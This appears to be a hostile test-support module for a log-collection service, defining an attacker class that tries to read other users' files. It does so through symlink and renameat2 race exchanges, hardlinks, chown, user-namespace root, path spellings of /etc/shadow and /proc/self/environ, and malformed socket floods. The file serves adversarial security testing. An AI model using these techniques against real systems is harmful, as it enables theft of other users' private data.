"""Tactics that are to show what belongs to others: by names, links, exchanges, moves and owners."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
from pathlib import Path
from typing import Any

from tests.support.hostile.ground import Attacker, clear, make_directory
from trainmedic.wire.log_layout import AttemptLogs

_LIBC = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD, _EXCHANGE = -100, 2
_NEW_NAMESPACES = 0x10000000 | 0x00020000
"""CLONE_NEWUSER and CLONE_NEWNS."""


def exchange(one: Path, other: Path) -> None:
    """Exchange two names at once. Raises OSError."""
    names = os.fsencode(one), os.fsencode(other)
    if _LIBC.renameat2(_AT_FDCWD, names[0], _AT_FDCWD, names[1], _EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")


def link(path: Path, to: str) -> None:
    """Put a symbolic link at a path, in place of whatever is there."""
    clear(path)
    path.symlink_to(to)


class Stealing(Attacker):
    """Attempts to see files of other users in an answer of the agent or the server."""

    def sources(self, logs: AttemptLogs, named: list[str], job: str | None = None, **further: Any) -> Path:
        """Write a sources file that names paths."""
        rank = self.rng.randrange(4)
        said = {"version": 1, "job": job or self.job(), "attempt": 1, "rank": rank, "local_rank": rank, "node_rank": 0}
        files = [{"path": path, "source": self.rng.choice(("training", "launcher"))} for path in named]
        path = logs.sources(self.ground.node, rank)
        clear(path)
        path.write_text(json.dumps({**said, "node": self.ground.node, "files": files, **further}))
        return path

    def names_prey(self) -> None:
        """Name private files of others, in many spellings."""
        prey = [path for path in self.ground.prey if not path.endswith("/")]
        spelled = [
            *prey,
            *(f"/{path}" for path in prey),
            *(path.replace("/", "//") for path in prey),
            *(f"{os.path.dirname(path)}/./{os.path.basename(path)}" for path in prey),  # noqa: PTH119, PTH120
            *(f"{self.ground.seen_home}/../{path}" for path in prey),
            *(f"{path}/" for path in prey),
            "/proc/self/environ",
            "/proc/self/root/etc/shadow",
            "/etc/shadow",
            "/dev/kmsg",
        ]
        self.rng.shuffle(spelled)
        self.sources(self.attempt(), spelled[:64])

    def claims_the_job_of_a_victim(self) -> None:
        """Name others' files under another job's name."""
        self.sources(self.attempt(), list(self.ground.prey)[:64], job=f"bob-{self.rng.randrange(100)}")

    def exchanges_files(self) -> None:
        """Exchange a named file with a link to another's, as fast as possible."""
        place = Path(self.ground.home) / f"race-{self.rng.randrange(4)}"
        make_directory(place)
        own, other = place / "own.log", place / "other.log"
        clear(own)
        own.write_text(self.mark())
        link(other, self.rng.choice(self.ground.prey))
        self.sources(self.attempt(), [self.seen(own)])
        until = self.span()
        while self.goes_on(until):
            for _ in range(100):
                exchange(own, other)
            with contextlib.suppress(OSError):
                self.append(own, self.mark().encode())

    def exchanges_directories(self) -> None:
        """Exchange a directory on the way to a named file with a link to another's directory."""
        place = Path(self.ground.home) / f"ways-{self.rng.randrange(4)}"
        prey = Path(self.rng.choice([path for path in self.ground.prey if not path.endswith("/")]))
        clear(place / "own")
        make_directory(place / "own")
        (place / "own" / prey.name).write_text(self.mark())
        link(place / "other", str(prey.parent))
        self.sources(self.attempt(), [f"{self.seen(place)}/own/{prey.name}", f"{self.seen(place)}/other/{prey.name}"])
        until = self.span()
        while self.goes_on(until):
            for _ in range(101):
                exchange(place / "own", place / "other")

    def exchanges_logs(self) -> None:
        """Exchange a log of the layout with a link, and the directory of an attempt with another."""
        logs = self.attempt()
        own, other = self.any_name(logs), logs.path / "beside"
        clear(own)
        own.write_text(self.mark())
        link(other, self.rng.choice(self.ground.prey))
        until = self.span()
        while self.goes_on(until):
            for _ in range(101):
                exchange(own, other)

    def links_to_prey(self) -> None:
        """Put links where logs, dumps, sources files and whole jobs are looked for."""
        logs = self.attempt()
        for _ in range(8):
            link(self.any_name(logs), self.rng.choice(self.ground.prey))
        if not self.ground.is_contained:
            link(Path(self.ground.root) / f"{self.ground.name}-linked", self.rng.choice(self.ground.prey))
        if self.ground.shared:
            link(Path(self.ground.shared) / f"{self.ground.name}.log", self.rng.choice(self.ground.prey))

    def gives_second_names(self) -> None:
        """Make hard links to others' files, and second names of own ones, one of which then goes."""
        logs = self.attempt()
        for prey in self.ground.prey:
            with contextlib.suppress(OSError):
                self.any_name(logs).hardlink_to(prey)
        own = logs.path / "first-name"
        own.write_text(self.mark())
        second = self.any_name(logs)
        with contextlib.suppress(OSError):
            clear(second)
            second.hardlink_to(own)
            own.unlink()

    def moves_private_files_of_the_team(self) -> None:
        """Rename a victim's private files into a job, under the names of logs and of their older parts."""
        if not self.ground.team:
            return
        logs = self.attempt()
        for path in list(Path(self.ground.team).iterdir())[:20]:
            target = self.any_name(logs)
            clear(target)
            with contextlib.suppress(OSError):
                path.rename(target)
        with contextlib.suppress(OSError):
            for path in list(Path(self.ground.team).iterdir())[:5]:
                own = Path(self.ground.home) / f"moved-{self.rng.randrange(4)}.log"
                path.rename(own)
                self.sources(self.attempt(), [self.seen(own)])

    def gives_files_away(self) -> None:
        """Give files and directories of a job to others, as root of a container can. The job directory stays its own.

        Root of a container that gives that away too looks like the other user, which the documentation states.
        """
        logs = self.attempt()
        path = self.sources(logs, list(self.ground.prey)[:64])
        for each in (path, logs.path, self.any_name(logs)):
            with contextlib.suppress(OSError):
                os.chown(each, self.rng.choice(self.ground.other_uids), 0)

    def is_root_of_a_user_namespace(self) -> None:
        """Do as much as root of a user namespace."""
        child = os.fork()
        if child:
            os.waitpid(child, 0)
            return
        with contextlib.suppress(BaseException):
            _become_root_of_a_namespace(self.ground.uid, self.ground.gid)
            for tactic in (self.names_prey, self.gives_files_away, self.gives_second_names, self.links_to_prey):
                with contextlib.suppress(OSError):
                    tactic()
            logs = self.attempt()
            _LIBC.mount(b"none", os.fsencode(logs.path), b"tmpfs", 0, None)
            self.any_name(logs).write_text(self.mark())
        os._exit(0)

    def knocks_at_the_agent(self) -> None:
        """Connect to the agent's sockets, and send what is no message."""
        for path in self.ground.links:
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(0.5)
                connection.connect(path)
                connection.sendall(b"\x00\x0f\xff\xff" + b"\x91" * 65536)
        if self.ground.exporter is None:
            return
        with contextlib.ExitStack() as stack:
            for _ in range(20):
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(socket.socket())
                    connection.settimeout(0.5)
                    connection.connect(self.ground.exporter)
                    connection.sendall(b"GET /metrics HTTP/1.1\r\nX: " + b"y" * self.rng.randrange(60_000))


def _become_root_of_a_namespace(uid: int, gid: int) -> None:
    _LIBC.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: a process that changed its user does not own its files in /proc
    if _LIBC.unshare(_NEW_NAMESPACES) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
    Path("/proc/self/gid_map").write_text(f"0 {gid} 1")
